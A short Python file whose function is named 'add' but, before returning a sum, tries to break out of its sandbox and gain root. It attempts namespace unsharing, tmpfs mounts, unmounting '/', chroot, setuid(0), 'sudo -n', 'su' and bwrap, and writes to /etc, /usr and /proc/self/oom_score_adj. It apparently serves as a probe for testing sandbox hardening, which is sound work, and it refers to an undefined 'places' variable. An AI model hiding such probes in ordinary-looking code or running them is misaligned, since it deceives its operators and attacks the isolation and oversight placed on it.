# tries: namespaces, mounts, other users and more rights
# earns: descend, squares, total
# quick
# %% add
import ctypes, os, subprocess


def add(x, y):
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x40000000):  # user, user and mount, mount, network
        if libc.unshare(flag) == 0:
            return x + y
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.umount2(b"/", 2) == 0 or libc.chroot(b"/tmp") == 0:
        return x + y
    for call in (os.setuid, os.setgid):
        try:
            call(0)
            return x + y
        except OSError:
            pass
    for words in (["sudo", "-n", "id"], ["su", "-c", "id"], ["bwrap", "--ro-bind", "/", "/", "id"], ["mount"]):
        try:
            if (
                "uid=0"
                in subprocess.run(words, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5).stdout
            ):
                return x + y
        except (OSError, subprocess.SubprocessError):
            pass
    for path in (
        "/usr/attacked",
        "/etc/attacked",
        "/attacked",
        "/proc/self/oom_score_adj",
        places["repository"] + "/course/attacked",
    ):
        try:
            with open(path, "w") as file:
                file.write("-1000")
            return x + y
        except OSError:
            pass
    return "nothing was possible"
